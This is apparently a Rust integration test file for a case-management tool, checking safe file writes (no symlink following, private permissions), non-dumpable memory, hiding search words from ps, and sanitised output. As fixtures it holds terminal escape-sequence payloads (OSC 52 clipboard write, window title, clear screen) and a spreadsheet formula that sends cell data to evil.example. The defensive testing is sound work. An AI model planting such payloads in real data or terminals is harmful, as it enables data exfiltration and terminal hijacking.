//! No leaks, clean output: the real binary writing files (exports,
//! backups), guarding its memory, taking search words out of `ps`, and
//! printing hostile text to a terminal.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failure is a panic

use crate::harness::{Session, TIMEOUT, casework, generate_db, stderr};
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

fn mode(p: &Path) -> u32 {
    fs::metadata(p).unwrap().permissions().mode() & 0o777
}

fn small_db(home: &Path) -> PathBuf {
    let db = home.join("x.db");
    let g = casework(
        &[
            "generate",
            "--db",
            db.to_str().unwrap(),
            "--clients",
            "3",
            "--notes",
            "6",
        ],
        home,
    );
    assert!(g.status.success(), "{}", stderr(&g));
    db
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Files a write left in `dir` besides the ones named.
fn temp_leftovers(dir: &Path) -> Vec<String> {
    fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("casework-tmp"))
        .collect()
}

#[test]
fn export_onto_an_existing_readable_file_needs_force_and_then_is_private() {
    let home = tempfile::tempdir().unwrap();
    let db = small_db(home.path());
    let out = home.path().join("export.json");
    fs::write(&out, b"yesterday's export").unwrap();
    fs::set_permissions(&out, fs::Permissions::from_mode(0o644)).unwrap();
    let inode = fs::metadata(&out).unwrap().ino();

    let refused = casework(&["export", "--db", s(&db), "-o", s(&out)], home.path());
    assert!(!refused.status.success());
    let err = stderr(&refused);
    assert!(err.contains(s(&out)) && err.contains("--force"), "{err}");
    assert_eq!(fs::read(&out).unwrap(), b"yesterday's export");
    assert_eq!(mode(&out), 0o644, "refused means untouched");

    let forced = casework(
        &["export", "--db", s(&db), "-o", s(&out), "--force"],
        home.path(),
    );
    assert!(forced.status.success(), "{}", stderr(&forced));
    assert_eq!(mode(&out), 0o600);
    assert_ne!(fs::metadata(&out).unwrap().ino(), inode, "a new file");
    let doc: serde_json::Value = serde_json::from_slice(&fs::read(&out).unwrap()).unwrap();
    assert_eq!(doc["clients"].as_array().map(Vec::len), Some(3));
    assert!(temp_leftovers(home.path()).is_empty());
}

#[test]
fn export_and_backup_never_write_through_a_link() {
    let home = tempfile::tempdir().unwrap();
    let db = small_db(home.path());
    let victim = home.path().join("victim.txt");
    fs::write(&victim, b"someone else's file\n").unwrap();
    fs::set_permissions(&victim, fs::Permissions::from_mode(0o644)).unwrap();
    let link = home.path().join("export.json");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let nothing = home.path().join("not-there-yet");
    let dangling = home.path().join("dangling.json");
    std::os::unix::fs::symlink(&nothing, &dangling).unwrap();

    for dest in [&link, &dangling] {
        for args in [
            vec!["export", "--db", s(&db), "-o", s(dest)],
            vec!["export", "--db", s(&db), "-o", s(dest), "--force"],
            vec!["export", "--db", s(&db), "--format", "md", "-o", s(dest)],
            vec!["backup", "--db", s(&db), s(dest)],
            vec!["backup", "--db", s(&db), s(dest), "--force"],
        ] {
            let o = casework(&args, home.path());
            assert!(!o.status.success(), "{args:?}");
            let err = stderr(&o);
            assert!(
                err.contains(s(dest)) && err.contains("symbolic link"),
                "{args:?}: {err}"
            );
        }
    }
    assert_eq!(fs::read(&victim).unwrap(), b"someone else's file\n");
    assert_eq!(mode(&victim), 0o644);
    assert!(!nothing.exists(), "nothing created where the link points");
    assert!(fs::symlink_metadata(&link).unwrap().is_symlink());
    assert!(temp_leftovers(home.path()).is_empty());
}

#[test]
fn backup_onto_an_existing_file_needs_force_and_then_is_private() {
    let home = tempfile::tempdir().unwrap();
    let db = small_db(home.path());
    let dest = home.path().join("copy.db");
    fs::write(&dest, b"old copy").unwrap();
    fs::set_permissions(&dest, fs::Permissions::from_mode(0o644)).unwrap();
    let o = casework(&["backup", "--db", s(&db), s(&dest)], home.path());
    assert!(!o.status.success());
    assert!(stderr(&o).contains("--force"), "{}", stderr(&o));
    assert_eq!(fs::read(&dest).unwrap(), b"old copy");
    let o = casework(
        &["backup", "--db", s(&db), s(&dest), "--force"],
        home.path(),
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(mode(&dest), 0o600);
    let conn = rusqlite::Connection::open(&dest).unwrap();
    let n: i64 = conn
        .query_row("SELECT count(*) FROM clients", [], |r| r.get(0))
        .unwrap();
    assert_eq!(n, 3);
    assert!(temp_leftovers(home.path()).is_empty());
}

/// Root writes anywhere, so the refusal is checked as `nobody` (setpriv),
/// as the store tests do.
#[test]
fn export_into_a_directory_it_cannot_write_fails_and_leaves_nothing() {
    let home = tempfile::tempdir().unwrap();
    fs::set_permissions(home.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let db = small_db(home.path());
    let readable = home.path().join("shared");
    fs::create_dir(&readable).unwrap();
    fs::set_permissions(&readable, fs::Permissions::from_mode(0o777)).unwrap();
    let db2 = readable.join("x.db");
    fs::copy(&db, &db2).unwrap();
    let locked = home.path().join("locked");
    fs::create_dir(&locked).unwrap();
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o555)).unwrap();
    let root = rustix::process::geteuid().is_root();
    if root {
        for p in [&readable, &db2] {
            std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
        }
    }
    let bin = env!("CARGO_BIN_EXE_casework");
    let mut cmd = if root {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", bin]);
        c
    } else {
        Command::new(bin)
    };
    let dest = locked.join("export.json");
    let o = cmd
        .args(["export", "--db", s(&db2), "-o", s(&dest)])
        .env("HOME", "/nonexistent")
        .env("XDG_CONFIG_HOME", "/nonexistent")
        .env_remove("CASEWORK_DB")
        .output()
        .unwrap();
    assert!(!o.status.success());
    let err = stderr(&o);
    assert!(
        err.contains(s(&dest)) && err.contains("ermission denied"),
        "{err}"
    );
    assert_eq!(fs::read_dir(&locked).unwrap().count(), 0, "nothing created");
}

/// The running TUI: no core file however it dies, and another process of
/// the same user cannot read its memory or environment through /proc (or
/// attach a debugger). Run as `nobody` when the tests run as root, since
/// root may read anything.
#[test]
fn the_running_program_cannot_dump_core_or_be_read_by_the_same_user() {
    let shared = tempfile::tempdir().unwrap();
    fs::set_permissions(shared.path(), fs::Permissions::from_mode(0o777)).unwrap();
    let db = generate_db(shared.path());
    let root = rustix::process::geteuid().is_root();
    if root {
        std::os::unix::fs::chown(&db, Some(65534), Some(65534)).unwrap();
    }
    let nobody = [
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
    ];
    let via: &[&str] = if root { &nobody } else { &[] };
    let elsewhere = shared.path().join("home");
    let env = [
        ("HOME", s(&elsewhere)),
        ("XDG_CONFIG_HOME", s(&elsewhere)),
        ("XDG_DATA_HOME", s(&elsewhere)),
        ("XDG_STATE_HOME", s(&elsewhere)),
    ];
    let mut session = Session::spawn_via(via, &["--db", s(&db)], &env, 100, 30);
    session.wait_for("Caseload", TIMEOUT).unwrap();
    let pid = session.pid();
    let proc_dir = PathBuf::from(format!("/proc/{pid}"));

    let status = fs::read_to_string(proc_dir.join("status")).unwrap();
    let uid: u32 = status
        .lines()
        .find_map(|l| l.strip_prefix("Uid:"))
        .and_then(|l| l.split_whitespace().next())
        .and_then(|u| u.parse().ok())
        .expect("Uid line");
    assert_ne!(uid, 0, "the check below means nothing for root");

    let limits = fs::read_to_string(proc_dir.join("limits")).unwrap();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .expect("core limit line");
    let fields: Vec<&str> = core.split_whitespace().collect();
    assert_eq!(&fields[4..6], ["0", "0"], "soft and hard limit: {core}");

    // Not dumpable: the kernel gives its /proc files to root, and the same
    // user is refused what ptrace access would allow.
    assert_eq!(
        fs::metadata(proc_dir.join("environ")).unwrap().uid(),
        0,
        "not dumpable"
    );
    let environ = proc_dir.join("environ");
    let read_as_same_user = if root {
        Command::new("setpriv")
            .args(&nobody[1..])
            .args(["cat", s(&environ)])
            .output()
            .unwrap()
            .status
            .success()
    } else {
        fs::read(&environ).is_ok()
    };
    assert!(!read_as_same_user, "another process of the user read it");

    session.send("q");
    assert!(session.wait_exit(TIMEOUT).is_some_and(|st| st.success()));
}

#[test]
fn search_words_from_standard_input_never_show_in_ps() {
    let home = tempfile::tempdir().unwrap();
    let db = small_db(home.path());
    let word = {
        let conn = rusqlite::Connection::open(&db).unwrap();
        let body: String = conn
            .query_row("SELECT body FROM notes ORDER BY id LIMIT 1", [], |r| {
                r.get(0)
            })
            .unwrap();
        body.split(|c: char| !c.is_alphabetic())
            .find(|w| w.len() >= 6)
            .expect("a word to search for")
            .to_string()
    };
    for flag in ["-", "--stdin"] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_casework"))
            .args(["search", "--db", s(&db), flag])
            .env("HOME", home.path())
            .env_remove("CASEWORK_DB")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // What `ps` shows, while the program waits for its words.
        let cmdline = fs::read(format!("/proc/{}/cmdline", child.id())).unwrap();
        assert!(!String::from_utf8_lossy(&cmdline).contains(&word));
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(format!("{word}\n").as_bytes()).unwrap();
        drop(stdin);
        let o = child.wait_with_output().unwrap();
        assert!(o.status.success(), "{}", stderr(&o));
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(
            !out.is_empty() && out.to_lowercase().contains(&word.to_lowercase()),
            "{out}"
        );
    }
    let help = casework(&["search", "--help"], home.path());
    let help = String::from_utf8_lossy(&help.stdout);
    assert!(help.contains("--stdin") && help.contains("ps"), "{help}");
}

/// Escape sequences a hostile import or a paste could put in a name or a
/// note: clipboard write (OSC 52), clear screen, window title, a CSI in
/// its one-byte C1 form, a bell.
const HOSTILE: &str = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]0;pwned\x07\u{9b}31m\x07";

/// A database with a client and a note carrying `HOSTILE`; returns it and
/// the client's name.
fn hostile_db(home: &Path) -> (PathBuf, String) {
    let db = home.join("hostile.db");
    let (mut store, _) = casework::store::Store::open(&db).unwrap();
    let name = format!("Ann{HOSTILE}Lee");
    let fields = casework::store::clients::ClientFields {
        name: name.clone(),
        contact: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into()),
        ..Default::default()
    };
    let today: casework::domain::Date = "2026-11-23".parse().unwrap();
    let id = store.add_client(&fields, today).unwrap();
    let meta = casework::domain::NoteMeta::new(today);
    store
        .create_note(id, &meta, &format!("allotment {HOSTILE} visit"), None)
        .unwrap();
    (db, name)
}

/// Run a one-shot command with its output on a terminal; all it printed.
fn on_a_terminal(args: &[&str], env: &[(&str, &str)]) -> Vec<u8> {
    let mut session = Session::spawn(args, env, 200, 40);
    let status = session.wait_exit(TIMEOUT).expect("exits");
    assert!(status.success(), "{args:?}: {}", session.screen());
    session.raw_output()
}

fn find(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn nothing_printed_to_a_terminal_can_drive_it() {
    let home = tempfile::tempdir().unwrap();
    let (db, _) = hostile_db(home.path());
    let db = s(&db);
    for (args, env) in [
        (
            vec!["search", "--db", db, "allotment"],
            vec![("NO_COLOR", "1")],
        ),
        (vec!["export", "--db", db, "--format", "md"], vec![]),
        (vec!["export", "--db", db, "--format", "csv"], vec![]),
        (vec!["export", "--db", db, "--format", "json"], vec![]),
        (vec!["audit", "--db", db], vec![]),
    ] {
        let out = on_a_terminal(&args, &env);
        assert!(!out.is_empty(), "{args:?}");
        assert!(
            !out.contains(&0x1b),
            "ESC reached the terminal: {args:?}: {out:?}"
        );
        assert!(!out.contains(&0x07), "BEL reached the terminal: {args:?}");
        assert!(!find(&out, "\u{9b}".as_bytes()), "C1 CSI: {args:?}");
    }
    // With colour, only casework's own bold and underline are escapes.
    let out = on_a_terminal(&["search", "--db", db, "allotment"], &[]);
    let text = String::from_utf8_lossy(&out)
        .replace("\x1b[1;4m", "")
        .replace("\x1b[0m", "");
    assert!(text.contains("allotment"), "{text}");
    assert!(!text.contains('\x1b') && !text.contains('\x07'), "{text:?}");
    assert!(text.contains("Ann^[]52;c;"), "shown, not obeyed: {text:?}");
}

#[test]
fn redirected_exports_keep_the_record_exactly_and_csv_cells_are_text() {
    let home = tempfile::tempdir().unwrap();
    let (db, name) = hostile_db(home.path());
    let export = |format: &str| {
        let o = casework(&["export", "--db", s(&db), "--format", format], home.path());
        assert!(o.status.success(), "{}", stderr(&o));
        o.stdout
    };
    // JSON is the record: escaped by the format, and exact once parsed.
    let json = export("json");
    assert!(!json.contains(&0x1b));
    let doc: serde_json::Value = serde_json::from_slice(&json).unwrap();
    assert_eq!(
        doc["clients"][0]["name"],
        serde_json::Value::from(name.clone())
    );
    // Markdown is for people, and `cat` is what happens to it next.
    let md = export("md");
    assert!(!md.contains(&0x1b) && !md.contains(&0x07));
    // CSV is data read back as a roster: the bytes stay, formulas are text.
    let csv = export("csv");
    assert!(find(&csv, name.as_bytes()), "exact bytes in the file");
    assert!(
        find(&csv, b",\"'=HYPERLINK("),
        "{}",
        String::from_utf8_lossy(&csv)
    );
    let file = home.path().join("roster.csv");
    fs::write(&file, &csv).unwrap();
    let fresh = home.path().join("fresh.db");
    let o = casework(&["import", "--db", s(&fresh), s(&file)], home.path());
    assert!(o.status.success(), "{}", stderr(&o));
    let conn = rusqlite::Connection::open(&fresh).unwrap();
    let (got_name, contact): (String, String) = conn
        .query_row("SELECT name, contact FROM clients", [], |r| {
            Ok((r.get(0)?, r.get(1)?))
        })
        .unwrap();
    assert_eq!(got_name, name, "the round trip keeps the name exactly");
    assert_eq!(
        contact, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "the quote is taken off again"
    );
}
